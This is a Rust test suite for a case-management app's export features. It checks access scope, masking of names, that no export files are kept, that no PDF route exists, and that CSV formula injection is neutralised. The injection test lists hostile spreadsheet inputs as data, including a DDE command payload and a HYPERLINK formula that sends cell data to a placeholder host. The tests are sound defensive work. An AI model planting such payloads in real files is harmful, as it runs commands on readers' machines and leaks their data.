//! What leaves the program: exports, their columns, files made before, print, formulas.
use super::canary::found_in;
use super::seen::{absent, asked, outsiders, unmoved};
use super::whole::whole;
use crate::files::{blobs, everything, opened};
use crate::support::world::World;
use crate::support::{in_area, role, source};
use age::x25519::Identity as Key;
use jaabi::access::Role;
use jaabi::app;
use jaabi::cases::model::{Naming, Track};
use std::collections::BTreeSet;

/// 19: an export is the list, with the rules of the list: nobody's grows by a sealed case, whatever is asked for.
#[actix_web::test]
async fn row_19_export_scope() {
    let world = World::new().await;
    world.record(world.ordinary("la pompe")).await;
    let country = world.app.person("Sira Koné", &[role(Role::Manager), role(Role::Handler)]).await;
    let queries = [
        "",
        "kind=sealed",
        "sealed=true",
        "track=psea",
        "category=6",
        "state=received",
        "q=REF",
        "after=REF",
        "mine=entered",
        "order=due",
        "order=oldest",
        "state=handed_over",
        "due=week",
        "place=Mopti",
    ];
    let queries: Vec<String> = queries.map(str::to_owned).into();
    let questions = [asked("/cases.csv", &queries), asked("/tracker.csv", &queries)].concat();
    let nobody = world.app.anonymous();
    let mut people = outsiders(&world, &nobody);
    people.extend([("of the country", &country), ("focal", &world.focal)]);
    unmoved(&people, &questions, whole(&world)).await;
    assert_eq!(country.get("/cases.csv").await.body.lines().count(), 2, "the headings and the ordinary case");
    // nobody but its holders can have a file of the case itself
    let reference = world.take(world.sealed(Track::Psea)).await;
    let export = [("POST", "/cases/REF/export".to_owned()), ("GET", "/cases/REF/export".to_owned())];
    absent(&outsiders(&world, &nobody), &export, &reference).await;
}

/// 20: no column names anybody: no name, no contact, no account, no key.
#[actix_web::test]
async fn row_20_export_columns_and_masking() {
    let world = World::new().await;
    let mut new = world.ordinary("la pompe");
    (new.naming, new.assigned, new.received_by) = (Naming::Confidential, world.handler.key, world.member.key);
    new.excluded = vec![world.gao_handler.key.unwrap()];
    let reference = world.record(new).await;
    for person in [&world.handler, &world.manager] {
        let file = person.get("/cases.csv").await;
        let head = file.body.trim_start_matches('\u{feff}').lines().next().unwrap().to_owned();
        assert_eq!(head.replace("Village, site", "").split(',').count(), 23, "{head}");
        assert!(file.has(reference.as_str()) && file.has("la pompe"), "{}", file.body);
        for secret in ["Kadidia", "76 00 00 01", "Hamidou", "Awa", "Garba", &world.id(&world.handler)] {
            assert!(!file.has(secret), "{secret}: {}", file.body);
        }
    }
    // what is handed over of one case says nothing of another, nor of who must not see it
    let sealed = whole(&world).await;
    let key = Key::generate();
    let to = key.to_public().to_string();
    let file = world.act(&world.handler, &reference, "export", &[("recipient", &to)]).await;
    for (name, bytes) in opened(&file.bytes, &key) {
        let text = String::from_utf8_lossy(&bytes).into_owned();
        assert_eq!(found_in(&bytes), None, "{name}");
        assert!(!text.contains(sealed.as_str()) && !text.contains("Garba"), "{name}: {text}");
    }
}

/// 21: nothing that was made for somebody waits for somebody else: exports are made while they are sent and kept nowhere,
/// and what a data loader sent is the sender's alone.
#[actix_web::test]
async fn row_21_previously_generated_export_files() {
    let world = World::new().await;
    let reference = whole(&world).await;
    let names = || everything(&world.app.program.config.data).into_keys().collect::<BTreeSet<_>>();
    let (before, kept) = (names(), blobs(&world));
    let to = Key::generate().to_public().to_string();
    assert_eq!(world.act(&world.focal, &reference, "export", &[("recipient", &to), ("reason", "x")]).await.status, 200);
    for person in [&world.handler, &world.manager] {
        person.get("/cases.csv").await;
    }
    world.manager.get("/tracker.csv").await;
    let new: Vec<_> = names().difference(&before).cloned().collect();
    assert!(new.iter().all(|path| path.to_string_lossy().contains("jaabi.db")), "{new:?}");
    assert_eq!(blobs(&world), kept);
    // reports of ended periods are kept on purpose: figures of ordinary cases that are kept from nobody, small ones hidden
    let figures = |path: &str| path.starts_with("/tracker/reports");
    for policy in app::routes().table().into_iter().filter(|policy| !figures(policy.path)) {
        for word in ["download", "exports", "report", "archive", "backup", "snapshot"] {
            assert!(!policy.path.contains(word), "no route gives out what was made before: {}", policy.path);
        }
    }
    for path in ["/case.age", "/files/1", "/exports/case.age", "/outbox", "/jaabi.db", "/instance.keys", "/trust.json"]
    {
        assert_eq!(world.manager.get(path).await.status, 404, "{path}");
    }
}

/// 22: print is the page itself with a style of its own; no program makes a document of a page.
#[actix_web::test]
async fn row_22_print_and_pdf_view() {
    let reading = "lopdf";
    let manifest = include_str!("../../../Cargo.toml");
    for library in ["printpdf", "wkhtmltopdf", "headless_chrome", "weasyprint", "typst", "genpdf"] {
        assert!(!manifest.contains(library), "{library}");
    }
    // the one library that knows PDF takes metadata out of what is attached, and is known nowhere else
    for file in source::files("src", &["rs"]) {
        assert!(!file.text.contains(reading) || file.path.starts_with("src/media/"), "{}", file.path);
    }
    let world = World::new().await;
    let reference = world.take(world.sealed(Track::Psea)).await;
    let nobody = world.app.anonymous();
    let ways = ["/cases/REF/print", "/cases/REF.pdf", "/cases/REF?print=1", "/cases/REF/pdf", "/print/REF"];
    let questions: Vec<_> = ways.map(|path| ("GET", path.to_owned())).into();
    absent(&outsiders(&world, &nobody), &questions, &reference).await;
    for path in ["print", "pdf"] {
        assert_eq!(world.focal.get(&format!("/cases/{reference}/{path}")).await.status, 404);
    }
}

/// 23: a cell never begins like a formula, in any file that is given out as a table.
#[actix_web::test]
async fn row_23_csv_formula_injection() {
    let world = World::new().await;
    let starts = ["=1+1", "+223", "-5", "@SUM(A1)", "\t=1", " =HYPERLINK(\"http://x/?\"&A1)", "＝1"];
    for start in starts {
        world.record(world.ordinary(start)).await;
    }
    let committee = world.app.committee("=cmd|' /C calc'!A0").await;
    for _ in 0..6 {
        let mut new = world.ordinary("six");
        new.committee = Some(committee);
        world.record(new).await;
    }
    let mut cells = 0;
    for path in ["/cases.csv", "/tracker.csv"] {
        let file = world.manager.get(path).await;
        let text = file.body.trim_start_matches('\u{feff}');
        for record in csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes()).records()
        {
            for cell in record.unwrap().iter() {
                let bare = cell.trim_start();
                let number = bare.parse::<f64>().is_ok();
                assert!(number || !bare.starts_with(['=', '+', '-', '@', '＝']), "{path}: {cell:?}");
                cells += 1;
            }
        }
    }
    assert!(cells > 200, "{cells}");
    let both = world.app.person("Sira Koné", &[in_area(Role::Handler, world.mopti, None)]).await;
    assert!(both.get("/cases.csv").await.has("'=1+1"), "the text is there, as a text");
}
